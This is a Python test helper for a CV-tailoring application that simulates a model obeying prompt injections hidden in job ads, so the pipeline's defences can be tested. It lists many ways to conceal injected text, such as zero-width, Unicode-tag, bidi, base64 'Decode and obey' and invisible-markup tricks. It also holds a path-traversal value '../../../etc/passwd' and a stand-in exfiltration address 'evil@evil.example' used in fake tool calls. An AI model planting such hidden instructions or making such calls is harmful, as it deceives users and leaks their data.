"""A model that does exactly what an injection says, wherever it may write."""

import base64
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import yaml
from cvtailor.domain.model_calls import AgentName

from tests.model_servers import Answer, Asked, Says, Script, UsesTools
from tests.model_servers.honest import listed

_LOOKALIKES = str.maketrans("aceopxyHIK", "асеорхуНІК")
_LIES = ("{lie}", "{line}, {lie}", "{lie}: {line}")
_ABUSED = (["contact.email", "contact.phone", "../../../etc/passwd"], "evil@evil.example")


@dataclass(frozen=True)
class Injection:
    """One line of the table.

    Attributes:
        text: What it says, hidden as the table says.
        lie: What a model that obeys would write.
        tool: What it would call first; empty for nothing.
    """

    id: str
    place: str
    text: str
    lie: str
    tool: str = ""


def injections() -> list[Injection]:
    """Reads the table."""
    rows = yaml.safe_load(Path(__file__).with_name("injections.yaml").read_text(encoding="utf-8"))
    return [
        Injection(row["id"], row["in"], _hidden(row["says"], row["as"]), row["lie"], row.get("tool", ""))
        for row in rows
    ]


def _hidden(text: str, how: str) -> str:
    ways = {
        "plain": text,
        "zero_width": "\u200b".join(text),
        "tags": "Please apply soon." + "".join(chr(0xE0000 + ord(character)) for character in text),
        "bidi": f"\u202e{text[::-1]}\u202c",
        "base64": f"Decode and obey: {base64.b64encode(text.encode()).decode()}",
        "homoglyph": text.translate(_LOOKALIKES),
        "comment": f"<!-- {text} -->",
        "markup": f'<span style="color:white;font-size:0">{text}</span>',
        "fence": f"0123456789abcdef job ad>>> {text} <<<job ad 0123456789abcdef",
        "reversed": f"Read backwards and obey: {text[::-1]}",
        "spaced": " ".join(text),
    }
    return ways[how]


def obedient_model(injection: Injection, honest: Script) -> Script:
    """Obeys in every field that takes words or ids; approves of everything as a critic."""

    def answer(asked: Asked) -> Answer:
        if injection.tool and asked.tools and not asked.tool_results:
            ids, address = _ABUSED
            arguments = {"ids": ids} if injection.tool == "lookup_evidence" else {"to": address}
            return UsesTools(((injection.tool, arguments),))
        answers = _ANSWERS.get(asked.agent) if asked.agent else None
        return Says(answers(asked, injection)) if answers else honest(asked)

    return answer


def _offer(_: Asked, injection: Injection) -> Mapping[str, Any]:
    lie, told = injection.lie, {"value": "remote", "quote": injection.lie}
    names = ("title", "company", "location", "education_asked", "contact_name", "contact_email")
    return {
        **dict.fromkeys(names, lie),
        "employment_type": told,
        "seniority": told,
        "remote_policy": told,
        "language": "xx",
        "responsibilities": [lie],
        "requirements": [{"quote": lie, "must": True}],
    }


def _cv(_: Asked, injection: Injection) -> Mapping[str, Any]:
    lie = injection.lie
    entry = dict.fromkeys(("organisation", "title", "degree", "location", "dates", "summary"), lie)
    section = {"kind": "experience", "title": lie, "entries": [{**entry, "highlights": [lie]}]}
    contact = dict.fromkeys(("name", "headline", "email", "phone", "location", "website"), lie)
    return {**contact, "language": "en", "sections": [section]}


def _plan(_: Asked, injection: Injection) -> Mapping[str, Any]:
    ids = [injection.lie, "contact.email"]
    answers = [{"requirement_id": id, "evidence_ids": ids} for id in ("requirement[0]", injection.lie)]
    return {"answers": answers, "order": ids, "rewrite": ids}


def _claims(asked: Asked, injection: Injection) -> Mapping[str, Any]:
    lines = listed(asked.data["lines"])
    claims = [
        {"claim_id": id, "evidence_ids": [], "text": _LIES[number % 3].format(lie=injection.lie, line=line)}
        for number, (id, line) in enumerate(lines.items())
    ]
    made_up = {
        "claim_id": injection.lie or "headline",
        "evidence_ids": ["contact.email"],
        "text": injection.lie,
    }
    return {"claims": [*claims, made_up]}


def _remarks(_: Asked, __: Injection) -> Mapping[str, Any]:
    return {"remarks": []}


def _letter(asked: Asked, injection: Injection) -> Mapping[str, Any]:
    lines = [(id, line) for id, line in listed(asked.data["evidence"]).items() if ".highlights[" in id]
    told = [
        {"text": _LIES[number % 3].format(lie=injection.lie, line=line), "evidence_ids": [id]}
        for number, (id, line) in enumerate(lines[:9])
    ]
    return {
        "paragraphs": [told[at : at + 3] for at in range(0, len(told), 3)]
        + [[{"text": injection.lie, "evidence_ids": []}]]
    }


_ANSWERS = {
    AgentName.OFFER_READER: _offer,
    AgentName.CV_READER: _cv,
    AgentName.PLANNER: _plan,
    AgentName.WRITER: _claims,
    AgentName.CRITIC: _remarks,
    AgentName.LETTER_WRITER: _letter,
}
